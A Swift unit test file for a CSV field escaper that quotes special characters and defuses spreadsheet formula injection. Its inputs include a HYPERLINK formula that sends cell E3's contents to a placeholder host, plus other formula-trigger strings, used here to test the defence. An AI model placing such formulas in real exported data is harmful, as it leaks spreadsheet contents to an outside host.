import Testing

@testable import Messages

@Suite struct CSVFieldTests {
    @Test func aFieldASpreadsheetWouldRunIsDefusedAndSpecialCharactersAreQuoted() {
        #expect(CSVField.escaped("Lê Thị Hoa") == "Lê Thị Hoa")
        #expect(CSVField.escaped("a, \"b\"") == "\"a, \"\"b\"\"\"")
        #expect(CSVField.escaped("two\nlines") == "\"two\nlines\"")
        #expect(CSVField.escaped("=HYPERLINK(\"https://x.example/?\"&E3,\"Li Wei\")").hasPrefix("\"'=HYPERLINK("))
        for formula in ["+1+2", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"] {
            #expect(CSVField.escaped(formula).first(where: { $0 != "\"" }) == "'", "\(formula)")
        }
        #expect(CSVField.escaped("") == "")
    }

    @Test(arguments: [
        ("Shenzhen Logistics Co.", "Shenzhen Logistics Co."),
        ("Logistics, Ltd", "\"Logistics, Ltd\""),
        ("Công ty \"Sơn Trà\"", "\"Công ty \"\"Sơn Trà\"\"\""),
        ("line one\r\nline two", "\"line one\r\nline two\""),
        ("line one\nline two", "\"line one\nline two\""),
        ("carriage\rreturn", "\"carriage\rreturn\""),
        ("=HYPERLINK(\"http://x\")", "\"'=HYPERLINK(\"\"http://x\"\")\""),
        ("+84 236 1234 567", "'+84 236 1234 567"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("=1,2", "\"'=1,2\""),
        ("a=b", "a=b"),
        ("", ""),
        ("Nguyễn Thị Lan", "Nguyễn Thị Lan"),
        ("深圳物流有限公司", "深圳物流有限公司"),
    ])
    func eachFieldIsQuotedOnlyWhereNeeded(value: String, written: String) {
        #expect(CSVField.escaped(value) == written)
    }
}
